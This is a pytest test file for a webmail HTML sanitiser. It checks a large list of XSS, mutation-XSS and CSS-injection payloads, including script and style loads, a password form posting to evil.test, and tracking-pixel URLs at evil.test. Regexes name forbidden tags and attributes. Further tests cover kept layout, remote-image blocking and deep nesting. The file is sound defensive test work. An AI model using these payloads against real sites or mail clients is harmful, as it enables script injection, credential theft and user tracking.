"""Classes of faults that mail sanitisers have had, one case each and more."""

import re
import time

import pytest

from mailhost.webmail.sanitise import MOST_DEPTH, clean, declarations

PARTS = {"logo@x": "/mail/1/2/3/part/1.2/logo.png"}

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<style>*{background:url(https://evil.test/t.gif)}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href='https://evil.test/'>",
    "<base target='_top'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.test/x.swf'>",
    "<applet code=x></applet>",
    "<form action='https://evil.test/'><input name=p type=password><button>Go</form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='/mail/1/1/delete'>x</a>",
    "<a href='?action=delete'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHN2Zy8+'>",
    "<img src='/logout/'>",
    "<img src='https://evil.test/pixel.gif'>",
    "<img src='//evil.test/pixel.gif'>",
    "<img srcset='https://evil.test/pixel.gif 1x'>",
    "<img lowsrc='https://evil.test/pixel.gif' dynsrc=x>",
    "<picture><source srcset='https://evil.test/p.gif'></picture>",
    "<video poster='https://evil.test/p.gif' src=x></video>",
    "<audio src='https://evil.test/p.mp3' autoplay></audio>",
    "<table background='https://evil.test/p.gif'><tr><td>x</table>",
    "<body background='https://evil.test/p.gif' onload=alert(1)>",
    "<div style='background:url(https://evil.test/p.gif)'>x</div>",
    "<div style='background:u\\72l(https://evil.test/p.gif)'>x</div>",
    "<div style='background:url/**/(https://evil.test/p.gif)'>x</div>",
    "<div style='background:image-set(\"https://evil.test/p.gif\" 1x)'>x</div>",
    "<div style='list-style:url(https://evil.test/p.gif)'>x</div>",
    "<div style='content:url(https://evil.test/p.gif)'>x</div>",
    "<div style='cursor:url(https://evil.test/p.gif),auto'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/* */ression(alert(1))'>x</div>",
    "<div style='behavior:url(#default#time2)'>x</div>",
    "<div style='-moz-binding:url(https://evil.test/x.xml#x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<div style='@import \"https://evil.test/x.css\"'>x</div>",
    "<div style='color:var(--x)'>x</div>",
    "<div style='background:\"https://evil.test/\"attr(x)'>x</div>",
    "<p id=csrfmiddlewaretoken name=location class=toolbar>x</p>",
    "<a name=getElementById href='https://ok.test'>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src='https://evil.test/'></portal>",
    "<div hx-get='/mail/' hx-trigger=load data-hx-post='/x'>x</div>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href='https://ok.test' ping='https://evil.test/'>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>",
]
TAG = re.compile(r"<\s*([a-zA-Z][^\s/>]*)([^>]*)>")
FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(script|svg|math|style|iframe|object|embed|form|input|button|base|meta"
    r"|link|template|textarea|video|audio|source|noscript|details|marquee|body|html)",
    re.IGNORECASE,
)
FORBIDDEN_IN_TAG = re.compile(
    r"""[\s/"'](on\w+|srcset|srcdoc|ping|formaction|background|id|class|name|hx-\w+"""
    r"""|data-\S+|action|poster|contenteditable|tabindex)\s*=""",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", NASTY)
def test_it_leaves_nothing_that_acts(html: str) -> None:
    shown = clean(html, PARTS).html
    assert not FORBIDDEN_TAG.search(shown)
    for tag in TAG.finditer(shown):
        # Quoted values hold no attribute names: what remains is attributes.
        bare = re.sub(r'"[^"]*"', '""', tag[2])
        assert not FORBIDDEN_IN_TAG.search(" " + bare)
        assert "evil.test" not in tag[2]
        assert not re.search(r"(?i)javascript|vbscript|data:text|svg", tag[2])
        assert "url(" not in tag[2]
        assert "position" not in tag[2]
        assert not re.search(r'(?:src|href)="[/?]', tag[2])


@pytest.mark.parametrize("html", NASTY)
def test_it_is_stable_when_parsed_again(html: str) -> None:
    """What a second reading changes is where mutations hide."""
    once = clean(html, PARTS).html
    assert _in_order(clean(once, PARTS).html) == _in_order(once)


def _in_order(html: str) -> str:
    """Sort the attributes of each tag; the sanitiser writes them in no order."""
    attribute = re.compile('[^ ]+="[^"]*"')
    return TAG.sub(lambda tag: f"<{tag[1]} {sorted(attribute.findall(tag[2]))}>", html)


def test_it_keeps_what_mail_looks_like() -> None:
    html = (
        '<table width="600" bgcolor="#ffffff" cellpadding="0" style="color: red">'
        '<tbody><tr><td align="center" style="font-family:\'Arial\', sans-serif">'
        "<b>Hi</b></td></tr></tbody></table>"
    )
    shown = clean(html, {}).html
    for kept in ("600", "#ffffff", "color:red", "Arial", "<b>Hi</b>", "center"):
        assert kept in shown


def test_links_open_elsewhere_without_telling_who_we_are() -> None:
    shown = clean('<a href="https://ok.test/a?b=1">x</a>', {}).html
    assert 'href="https://ok.test/a?b=1"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_pictures_of_the_message_come_from_its_parts() -> None:
    found = clean('<img src="cid:logo@x"><img src="cid:other">', PARTS)
    assert found.html == f'<img src="{PARTS["logo@x"]}"><img>'
    assert not found.has_remote


def test_pictures_from_elsewhere_wait_until_asked_for() -> None:
    html = '<img src="http://pic.test/a.png"><img src="//pic.test/b.png">'
    assert clean(html, {}).html == "<img><img>"
    assert clean(html, {}).has_remote
    shown = clean(html, {}, lambda url: f"/ours/{url}").html
    assert 'src="/ours/http://pic.test/a.png"' in shown
    assert 'src="/ours/https://pic.test/b.png"' in shown


def test_remote_backgrounds_are_noticed() -> None:
    assert clean("<p style='background:url(http://pic.test/a.png)'>", {}).has_remote


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:#fff;position:absolute", "color:#fff"),
        ("COLOR : RED !important", "color:RED !important"),
        ("width:calc(100% - 10px)", "width:calc(100% - 10px)"),
        ("background:url(x)", None),
        ("background-color:rgba(0,0,0,.5)", "background-color:rgba(0,0,0,.5)"),
        ("color:red}body{display:none", None),
        ("color", None),
        ("", None),
    ],
)
def test_declarations(style: str, kept: str | None) -> None:
    assert declarations(style) == kept


def test_it_takes_deep_and_long_mail_in_its_stride() -> None:
    started = time.monotonic()
    shown = clean("<div>" * 60_000 + "deep", {}).html
    clean("<b " * 100_000, {})
    clean("<a href=" + "x" * 500_000, {})
    assert "deep" in shown
    assert shown.count("<div>") <= MOST_DEPTH
    assert time.monotonic() - started < 10
